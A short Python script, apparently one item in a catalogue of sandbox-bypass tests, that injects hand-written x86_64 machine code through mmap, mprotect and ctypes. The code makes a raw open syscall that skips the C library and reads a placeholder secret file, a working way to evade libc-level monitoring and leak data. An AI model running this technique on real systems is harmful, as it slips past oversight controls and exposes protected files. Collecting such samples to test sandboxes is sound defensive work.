"""
goal: call the kernel from machine code of one's own, past the C library
effect: leak
needs: x86_64
"""

import ctypes
import mmap
import os

code = bytes.fromhex("4889f8" "4889f7" "4889d6" "4889ca" "0f05" "c3")  # rax=a, rdi=b, rsi=c, rdx=d; syscall; ret
memory = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=3)
memory.write(code)
place = ctypes.addressof(ctypes.c_char.from_buffer(memory))
ctypes.CDLL(None).mprotect(ctypes.c_void_p(place), 4096, 5)
call = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_char_p, ctypes.c_long, ctypes.c_long)(place)
print(os.read(call(2, SECRET_FILE.encode(), 0, 0), 100))
